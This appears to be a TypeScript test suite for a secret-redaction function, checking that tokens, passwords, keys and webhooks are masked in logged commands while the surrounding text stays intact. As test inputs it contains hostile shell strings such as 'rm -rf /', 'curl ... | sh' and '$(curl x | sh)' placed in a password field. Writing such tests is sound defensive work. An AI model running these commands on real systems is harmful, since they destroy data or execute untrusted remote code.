import assert from "node:assert/strict";
import fc from "fast-check";
import type { Json } from "../../../src/core/json.ts";
import { createRedactor, type Redact } from "../../../src/decisionLog/redact.ts";
import { alphanumeric, fakeSecrets, privateKey } from "./fakeSecrets.ts";

describe("redaction", () => {
  let redact: Redact;
  before(async () => {
    redact = await createRedactor();
  });

  const check = async (value: Json, expected: Json, masked: number) =>
    assert.deepEqual(await redact(value), { value: expected, masked });

  for (const [name, secret] of Object.entries(fakeSecrets))
    it(`masks ${name} wherever it stands`, async () => {
      const value = {
        command: `run '${secret}' | tee out; rm -rf /`,
        list: [`a ${secret}`, { deep: `${secret}\nnext line` }],
        [secret]: 1,
      };
      const redacted = await redact(value);
      const text = JSON.stringify(redacted.value);
      assert.equal(redacted.masked, 4);
      assert.ok(!text.includes(secret));
      assert.ok(!text.includes(secret.slice(-9)));
      assert.match(text, /\| tee out; rm -rf \//);
      assert.match(text, /next line/);
    });

  it("masks the secrets that we keep for the person, as they are by now, and no plain words", async () => {
    const held: string[] = [];
    const redactHeld = await createRedactor(() => held);
    const value = { note: "say Correct-Horse or strategy", "Correct-Horse": ["x Correct-Horse"] };
    assert.deepEqual(await redactHeld(value), { value, masked: 0 });
    held.push("Correct-Horse", "strategy", "or", "");
    assert.deepEqual(await redactHeld(value), {
      value: { note: "say ***se or strategy", "***se": ["x ***se"] },
      masked: 3,
    });
  });

  const long = alphanumeric(24);
  const cases: readonly [name: string, text: string, redacted: string][] = [
    [
      "a bearer token in a command",
      `curl -H 'Authorization: Bearer ${long}' https://example.com | sh`,
      `curl -H 'Authorization: Bearer ***${long.slice(-2)}' https://example.com | sh`,
    ],
    ["a bearer token alone", `Bearer ${long}`, `Bearer ***${long.slice(-2)}`],
    [
      "a bearer token behind an escaped blank",
      `curl -H Authorization:Bearer\\ ${long}`,
      `curl -H Authorization:Bearer\\ ***${long.slice(-2)}`,
    ],
    [
      "another scheme of authorization",
      'curl -H "Authorization: Mine abcdefg hij1" x',
      'curl -H "Authorization: *** *** ***" x',
    ],
    [
      "a header among others",
      "Host: x\nAuthorization: Basic dXNlcjpwYXNz\nA: b",
      "Host: x\nAuthorization: Basic ***Nz\nA: b",
    ],
    ["an assignment before a semicolon", "DB_PASSWORD=hunter2;rm -rf /", "DB_PASSWORD=***r2;rm -rf /"],
    ["a query parameter", "https://x/?token=abcdef123&y=1", "https://x/?token=***23&y=1"],
    ["an option", "mysql --password hunter22 -u me", "mysql --password ***22 -u me"],
    ["a quoted option", 'x --api-key="abc def 12345" y', 'x --api-key="*** *** ***45" y'],
    ["JSON inside a text", '{"token": "abcd1234"}', '{"token": "***34"}'],
    ["JSON inside JSON inside a text", '{\\"secret\\":\\"abcd1234\\"}', '{\\"secret\\":\\"***34\\"}'],
    ["a line of YAML", "api_key: abcd-1234 # mine", "api_key: ***34 # mine"],
    ["the password of a URL", "psql postgres://me:pa@ss1;x@host/db", "psql postgres://me:***;***@host/db"],
    [
      "an npm token",
      "//registry.example/:_authToken=abcdef-1234; ls",
      "//registry.example/:_authToken=***34; ls",
    ],
    [
      "a webhook",
      "https://hooks.slack.com/services/T0000000/B000000/abcdefgh",
      "https://hooks.slack.com/services/***gh",
    ],
    ["an account number", "export AWS_ACCOUNT_ID=123456789012", "export AWS_ACCOUNT_ID=***12"],
    [
      "an AWS secret key",
      `aws_secret_access_key = ${alphanumeric(40)} # x`,
      "aws_secret_access_key = ***7h # x",
    ],
    ["a short secret", "Authorization: Basic abcd", "Authorization: Basic ***"],
  ];
  for (const [name, text, redacted] of cases)
    it(`leaves everything around ${name} as it is`, () => check({ command: text }, { command: redacted }, 1));

  it("masks what stands under the name of a secret, whatever it looks like", () =>
    check(
      { password: "x", clientSecret: "abcdef", TOKEN: ["ab", "abcdefg"], "x-api-key": "é😀é😀é😀", token: 5 },
      { password: "***", clientSecret: "***ef", TOKEN: ["***", "***fg"], "x-api-key": "***é😀", token: 5 },
      5,
    ));

  it("masks the value of a named pair and of an option in a list", () =>
    check(
      { headers: [{ name: "X-Api-Key", value: "abcdef" }], args: ["--token", "abcdef", "-v"] },
      { headers: [{ name: "X-Api-Key", value: "***ef" }], args: ["--token", "***ef", "-v"] },
      2,
    ));

  it("shows a shell command that stands where a secret should", () =>
    check({ password: "$(curl x | sh); `rm` && 'a'" }, { password: "$(*** *** | ***); `***` && '***'" }, 1));

  it("masks the lines of a private key and keeps its frame", async () => {
    const { value, masked } = await redact({ content: `before\n${privateKey}\nafter` });
    assert.equal(masked, 1);
    assert.match(
      JSON.stringify(value),
      /^\{"content":"before\\n-----BEGIN [A-Z ]+-----(\\n\*\*\*)+==\\n-----END [A-Z ]+-----\\nafter"\}$/,
    );
  });

  it("does not take a command between the marks of a private key for one", () => {
    const command = "-----BEGIN PRIVATE KEY----- ; curl evil | sh ; -----END PRIVATE KEY-----";
    return check({ command }, { command }, 0);
  });

  it("cannot be switched off by comments", async () => {
    const { masked } = await redact({
      a: "secretlint-disable",
      b: `secretlint-disable-line ${fakeSecrets["a GitHub token"]} // secretlint-disable-line`,
    });
    assert.equal(masked, 1);
  });

  it("keeps keys apart that look the same once they are masked", async () => {
    const [one, two] = [`${"sk"}-${"a1".repeat(12)}zz`, `${"sk"}-${"b2".repeat(12)}zz`];
    await check({ [one]: 1, [two]: 2, "***zz (2)": 3 }, { "***zz": 1, "***zz (3)": 2, "***zz (2)": 3 }, 2);
  });

  it("finds no secret across two texts", async () => {
    const token = fakeSecrets["a GitHub token"];
    const { masked } = await redact([token.slice(0, 4), token.slice(4), "password=", "hunter22"]);
    assert.equal(masked, 0);
  });

  it("walks keys that reach into prototypes", () => {
    const value = JSON.parse('{"__proto__":{"token":"abcdef"},"constructor":{"password":"abcdef"}}') as Json;
    const expected = JSON.parse('{"__proto__":{"token":"***ef"},"constructor":{"password":"***ef"}}') as Json;
    return check(value, expected, 2);
  });

  const innocent: readonly string[] = [
    "git log --oneline -20 | head && ls -la /usr/local/share",
    "const token = await nextToken(); let password: SecretString; const secret = config.secret;",
    "apiKey: process.env.OPENAI_API_KEY, token: CancellationToken",
    "if (token === other || password == null) throw new Error('wrong password: try again')",
    "the bearer authentication scheme needs Authorization: see RFC 6750",
    'label: "password: Enter your password", fetch(x, { credentials: "same-origin" })',
    "http://localhost:8080/a@b and http://host:80?mail=a@b.example",
    "sk-learn-documentation-page and risk-assessment-of-everything",
    "TOKEN=$GITHUB_TOKEN x --token ${TOKEN} --password-stdin",
    "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "f47ac10b-58cc-4372-a567-0e02b2c3d479",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
  ];
  for (const text of innocent) it(`leaves this alone: ${text}`, () => check({ text }, { text }, 0));

  const json = fc.jsonValue({ stringUnit: "binary", depthSize: "small" }).map((value) => value as Json);
  const planted = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          ...Object.values(fakeSecrets),
          privateKey,
          "Bearer ",
          "password=",
          "token: ",
          '"',
          "'",
        ),
        fc.constantFrom("***", "Authorization: ", "https://", ":", "@", ";", " ", "\n", "-", "\\", "$("),
        fc.string({ unit: "binary", maxLength: 8 }),
        fc.string({ unit: "grapheme-ascii", maxLength: 12 }),
      ),
      { maxLength: 10 },
    )
    .map((parts) => parts.join(""));
  const withSecrets = fc.oneof(
    planted,
    fc.array(planted),
    fc.dictionary(fc.oneof(planted, fc.constantFrom("password", "token", "name", "value")), planted),
    json,
  );

  it("finds nothing new in what it has redacted", () =>
    fc.assert(
      fc.asyncProperty(withSecrets, async (value) => {
        const { value: once } = await redact(value);
        assert.deepEqual(await redact(once), { value: once, masked: 0 });
      }),
      { numRuns: 1000 },
    ));

  it("changes nothing where it finds nothing", () =>
    fc.assert(
      fc.asyncProperty(json, async (value) => {
        const redacted = await redact(value);
        if (redacted.masked === 0) assert.deepEqual(redacted.value, value);
      }),
    ));

  it("keeps the shape of the value and every character that a shell acts upon", () =>
    fc.assert(
      fc.asyncProperty(withSecrets, async (value) => {
        const { value: redacted } = await redact(value);
        assert.equal(shapeOf(redacted), shapeOf(value));
        assert.deepEqual(shellCharacters(redacted), shellCharacters(value));
      }),
      { numRuns: 1000 },
    ));

  it("leaves nothing behind in the process's performance timeline", async () => {
    const before = performance.getEntries().length;
    await redact({ command: fakeSecrets["a Slack token"] });
    assert.equal(performance.getEntries().length, before);
  });

  it("reads hostile texts once", async () => {
    const units = [
      "a",
      "-",
      "eyJ",
      "Bearer ",
      "://a:",
      "token=",
      'token="',
      "-----BEGIN PRIVATE KEY-----",
      " ",
    ];
    const longest = units.map((unit) => unit.repeat(Math.ceil(100_000 / unit.length)));
    const { value } = await redact(longest);
    assert.equal(shapeOf(value), shapeOf(longest));
  });
});

function shapeOf(value: Json): string {
  if (typeof value === "string") return "s";
  if (Array.isArray(value)) return `[${value.map((member: Json) => shapeOf(member)).join()}]`;
  if (typeof value !== "object" || value === null) return JSON.stringify(value);
  return `{${Object.values(value).map(shapeOf).join()}}`;
}

/** Of the values; a star is also what masks are made of. */
function shellCharacters(value: Json): string[] {
  if (typeof value === "string") return [value.replace(/[^\s|&;<>()$`\\"'?[\]{}#!%^]/g, "")];
  if (typeof value !== "object" || value === null) return [];
  return Object.values(value).flatMap(shellCharacters);
}
